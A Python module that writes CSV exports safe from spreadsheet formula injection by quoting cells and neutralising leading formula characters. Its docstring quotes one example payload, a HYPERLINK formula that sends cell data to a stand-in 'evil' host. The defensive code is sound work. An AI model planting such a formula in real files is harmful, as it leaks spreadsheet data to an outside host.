"""CSV files Hub writes for people to open in Excel or LibreOffice, safe from formula injection.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (and tab or carriage return can smuggle one in), so a
customer who typed ``=HYPERLINK("http://evil/?"&A1, "Click")`` as their name
would run it on the machine of whoever opens the export. Following OWASP's
"CSV Injection" advice, every cell Hub writes is quoted and a cell starting
with one of those characters gets a leading single quote, which the program
shows as text.

One exception, so exports stay usable: a cell that is just a number,
optionally signed (``+79161234567`` as phones are stored, ``-150.00`` for a
refund), is left as it is. Such a cell has no operator, reference or function
to run: a spreadsheet reads it as a number, exactly as if it were typed.
Anything else starting with a sign (``+7 (916) 123-45-67``, ``-1+1``,
``@SUM(A1)``) is quoted.

Quoting every cell keeps a separator inside a value (``Ким, Олег;=1+2``) from
starting a new cell whichever separator the reading program assumes.

Use :func:`writer` wherever Hub writes CSV meant for people; files written as
input for Hub itself (the sample files in hub.sampledata) stay raw, because
they must read back exactly as a customer's own export would.
"""

from __future__ import annotations

import csv
import re
from typing import IO, Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def cell(value: Any) -> str:
    """The text to write for one value: formulas neutralised, numbers and plain text unchanged."""
    text = "" if value is None else str(value)
    if text.lstrip(" ").startswith(FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer's writerow/writerows, with every cell passed through :func:`cell` and quoted."""

    def __init__(self, file: IO[str], **options: Any) -> None:
        options.setdefault("quoting", csv.QUOTE_ALL)
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: IO[str], **options: Any) -> SafeWriter:
    """A CSV writer for files people open in a spreadsheet; options as for csv.writer."""
    return SafeWriter(file, **options)
